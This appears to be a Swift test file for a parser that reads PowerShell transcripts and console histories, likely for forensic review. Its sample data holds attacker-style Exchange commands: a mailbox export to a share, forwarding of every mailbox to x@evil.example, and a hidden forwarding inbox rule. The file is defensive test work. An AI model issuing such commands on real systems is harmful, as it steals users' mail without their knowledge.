@@ -1,0 +1,81 @@
+import Bytes
+import Records
+import Testing
+
+@testable import Readers
+
+@Suite("PowerShell: transcripts and history")
+struct PowerShellTests {
+  private static let transcript = """
+    **********************
+    Windows PowerShell transcript start
+    Start time: 20210302080504
+    Username: CONTOSO\\admin
+    RunAs User: CONTOSO\\admin
+    Machine: EX01 (Microsoft Windows NT 10.0.14393.0)
+    Host Application: powershell.exe
+    PSVersion: 5.1.14393.4169
+    **********************
+    Transcript started, output file is C:\\t.txt
+    **********************
+    Command start time: 20210302080600
+    **********************
+    PS C:\\> New-MailboxExportRequest -Mailbox ann -FilePath "\\\\ex01\\c$\\a b.pst" -ContentFilter {(Body -like '*x*')}
+    Name                Mailbox
+    ----                -------
+    [PS] C:\\Windows\\system32>Get-Mailbox -ResultSize Unlimited | Set-Mailbox -ForwardingSmtpAddress:smtp:x@evil.example
+    PS C:\\> dir
+
+    """
+
+  @Test("a transcript gives each command with its user, machine, time and parameters")
+  func transcript() async throws {
+    let bytes = Array(Self.transcript.replacing("\n", with: "\r\n").utf8)
+    #expect(reader(for: Opening(bytes, isWhole: true))?.kind == "powershell_transcript")
+    let reading = try await Reading.of(bytes, by: PowerShellTranscriptReader.self, pieceLength: 5)
+    #expect(reading.defects.isEmpty)
+    #expect(reading.records.map(\.operation) == ["New-MailboxExportRequest", "Get-Mailbox", "Set-Mailbox", "dir"])
+    #expect(reading.records.map(\.location.line) == [14, 17, 17, 18])
+    #expect(reading.records.allSatisfy { $0.occurredAt == 1_614_672_360_000_000 && $0.timeBasis == .assumed })
+    #expect(reading.records.allSatisfy { $0.actor == "CONTOSO\\admin" && $0.server == "EX01" && $0.isSuccess == nil })
+    let export = try #require(reading.records.first?.cmdlet)
+    #expect(export.target == "ann")
+    #expect(
+      export.parameters.map { "\($0.name)=\($0.value ?? "")" } == [
+        "Mailbox=ann", "FilePath=\\\\ex01\\c$\\a b.pst", "ContentFilter={(Body -like '*x*')}",
+      ])
+    #expect(reading.records[2].cmdlet?.parameters.last?.value == "x@evil.example")
+    #expect(reading.records[3].cmdlet == nil)
+  }
+
+  @Test("a console history is told by its content; a script, mail and prose are not one")
+  func history() async throws {
+    let history = "Connect-ExchangeOnline\nGet-Mailbox -Identity ann\nNew-InboxRule -Name . -ForwardTo x@evil.example\n"
+    #expect(reader(for: Opening(Array(history.utf8), isWhole: true))?.kind == "powershell_history")
+    let reading = try await Reading.of(history, by: ConsoleHistoryReader.self)
+    #expect(reading.records.map(\.operation) == ["Connect-ExchangeOnline", "Get-Mailbox", "New-InboxRule"])
+    #expect(reading.records.map(\.occurredAt) == [nil, nil, nil])
+    #expect(reading.records.map(\.location.offset) == [0, 23, 49])
+    for other in [
+      "# makes rules\n" + history, "function f {\n" + history + "}\n", "Get-ChildItem\nGet-Process\n",
+      "We ran New-InboxRule and it failed.\nThen we went home.\n", "Subject: x\n\nGet-Mailbox\n",
+    ] {
+      #expect(reader(for: Opening(Array(other.utf8), isWhole: true))?.kind != "powershell_history", "\(other)")
+    }
+  }
+
+  @Test(
+    "words, quotes and brackets of a line",
+    arguments: [
+      ("A-B", "A-B"), ("A-B -X 'it''s' y", "A-B X=it's =y"), ("A-B -X `\"q -Y", "A-B X=\"q Y="),
+      ("$r = A-B -X:1; C-D", "A-B X=1|C-D"), ("A-B -X (C-D | E-F)", "A-B X=(C-D | E-F)"),
+      ("A-B -X \"open", "A-B X=open"),
+      (" ; | ", ""), ("", ""), ("A-B ) } -X 1", "A-B =) =} X=1"),
+    ])
+  func words(line: String, expected: String) {
+    let commands = PowerShellCommand.commands(in: line).map { command in
+      ([command.name] + command.parameters.map { "\($0.name)=\($0.value ?? "")" }).joined(separator: " ")
+    }
+    #expect(commands.joined(separator: "|") == expected)
+  }
+}
